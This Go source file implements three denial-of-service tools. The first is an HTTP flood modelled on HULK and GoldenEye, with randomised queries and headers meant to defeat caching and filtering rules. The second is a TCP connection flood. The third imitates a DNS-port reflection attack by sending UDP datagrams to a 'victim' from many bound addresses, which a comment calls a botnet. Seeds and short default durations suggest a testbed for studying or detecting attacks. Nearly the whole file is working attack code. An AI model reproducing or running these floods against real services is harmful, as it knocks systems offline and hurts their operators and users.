package actor

import (
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"time"
)

// flood asks a web server for random addresses with random headers, so that no
// cache and no simple rule helps, as HULK and GoldenEye do. With -from each
// worker has an address of its own in that network: a botnet.
func flood(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("flood", flag.ContinueOnError)
	url := f.String("url", "", "what to ask for")
	workers := f.Int("workers", 20, "connections at once")
	length := f.Duration("for", 10*time.Second, "how long")
	rate := f.Float64("rate", 50, "requests a second and worker, at most")
	keep := f.Bool("keep", false, "keep connections open")
	from := f.String("from", "", "network of the sources")
	post := f.Bool("post", false, "POST a form")
	seed := f.Uint64("seed", 1, "of everything random")
	if err := Parse(f, args); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, *length)
	defer cancel()
	var wg sync.WaitGroup
	for i := range *workers {
		d := &net.Dialer{Timeout: 5 * time.Second}
		if *from != "" {
			a, err := nth(*from, i+1)
			if err != nil {
				return err
			}
			d.LocalAddr = &net.TCPAddr{IP: a.AsSlice()}
		}
		c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
			DialContext: d.DialContext, DisableKeepAlives: !*keep, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
		rng := rand.New(rand.NewPCG(*seed, uint64(i)))
		wg.Go(func() {
			for ctx.Err() == nil {
				hit(ctx, c, rng, *url, *post)
				wait(ctx, time.Duration(rng.ExpFloat64()/(*rate)*float64(time.Second)))
			}
		})
	}
	wg.Wait()
	return nil
}

func hit(ctx context.Context, c *http.Client, rng *rand.Rand, url string, post bool) {
	sep := "?"
	if strings.Contains(url, "?") {
		sep = "&"
	}
	query := letters(rng, 3+rng.IntN(8)) + "=" + letters(rng, 3+rng.IntN(12))
	method, body := "GET", io.Reader(nil)
	if post {
		method, body = "POST", strings.NewReader(query+"&text="+letters(rng, 200))
	}
	req, err := http.NewRequestWithContext(ctx, method, url+sep+query, body)
	if err != nil {
		return
	}
	req.Header.Set("User-Agent", Agents[rng.IntN(len(Agents))])
	req.Header.Set("Cache-Control", "no-cache")
	req.Header.Set("Accept-Charset", "ISO-8859-1,utf-8;q=0.7,*;q=0.7")
	req.Header.Set("Referer", "http://www."+letters(rng, 8)+".example/?q="+letters(rng, 6))
	req.Header.Set("Keep-Alive", fmt.Sprint(110+rng.IntN(10)))
	if resp, err := c.Do(req); err == nil {
		_, _ = io.Copy(io.Discard, resp.Body) // the answer does not matter to a flood
		resp.Body.Close()
	}
}

// dial opens connections and leaves them, from many addresses if -from is given,
// at a rate: a flood of whole handshakes.
func dial(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("dial", flag.ContinueOnError)
	to := f.String("to", "", "address:port")
	from := f.String("from", "", "network of the sources")
	rate := f.Int("rate", 200, "connections a second")
	length := f.Duration("for", 10*time.Second, "how long")
	hold := f.Duration("hold", 0, "how long each stays open")
	say := f.String("say", "", "what each sends first, \\r\\n and \\x20 understood")
	if err := Parse(f, args); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, *length)
	defer cancel()
	tick := time.NewTicker(time.Second / time.Duration(*rate))
	defer tick.Stop()
	text := []byte(strings.NewReplacer(`\r\n`, "\r\n", `\x20`, " ").Replace(*say))
	var wg sync.WaitGroup
	for i := 1; ctx.Err() == nil; i++ {
		d := &net.Dialer{Timeout: 3 * time.Second}
		if *from != "" {
			a, err := nth(*from, 1+i)
			if err != nil {
				return err
			}
			d.LocalAddr = &net.TCPAddr{IP: a.AsSlice()}
		}
		wg.Go(func() {
			c, err := d.DialContext(ctx, "tcp", *to)
			if err != nil {
				return
			}
			defer c.Close()
			_, _ = c.Write(text)
			wait(ctx, *hold)
		})
		select {
		case <-ctx.Done():
		case <-tick.C:
		}
	}
	wg.Wait()
	return nil
}

// reflect sends what servers would answer to somebody who asked in the victim's
// name: large datagrams from many addresses and one well-known port.
func reflect(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("reflect", flag.ContinueOnError)
	to := f.String("to", "", "victim")
	from := f.String("from", "", "network of the reflectors")
	count := f.Int("reflectors", 100, "how many")
	port := f.Int("port", 53, "their port")
	size := f.Int("size", 1200, "bytes of payload")
	rate := f.Int("rate", 2000, "datagrams a second")
	length := f.Duration("for", 8*time.Second, "how long")
	seed := f.Uint64("seed", 1, "of everything random")
	if err := Parse(f, args); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(ctx, *length)
	defer cancel()
	rng := rand.New(rand.NewPCG(*seed, 0))
	victim, err := netip.ParseAddr(*to)
	if err != nil {
		return err
	}
	var conns []*net.UDPConn
	for i := range *count {
		a, err := nth(*from, i+1)
		if err != nil {
			return err
		}
		c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: a.AsSlice(), Port: *port})
		if err != nil {
			return err
		}
		defer c.Close()
		conns = append(conns, c)
	}
	answer := []byte(letters(rng, *size))
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for ctx.Err() == nil {
		for range max(1, *rate/100) {
			dst := &net.UDPAddr{IP: victim.AsSlice(), Port: 1024 + rng.IntN(60000)}
			_, _ = conns[rng.IntN(len(conns))].WriteToUDP(answer[:len(answer)-rng.IntN(len(answer)/8)], dst)
		}
		select {
		case <-ctx.Done():
		case <-tick.C:
		}
	}
	return nil
}

// nth gives the i-th address of a network, starting over at its end.
func nth(network string, i int) (netip.Addr, error) {
	p, err := netip.ParsePrefix(network)
	if err != nil {
		return netip.Addr{}, err
	}
	b := p.Masked().Addr().As4()
	n := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
	n += 1 + uint32(i)%(1<<(32-p.Bits())-2)
	return netip.AddrFrom4([4]byte{byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}), nil
}

func letters(rng *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"[rng.IntN(62)]
	}
	return string(b)
}

func wait(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
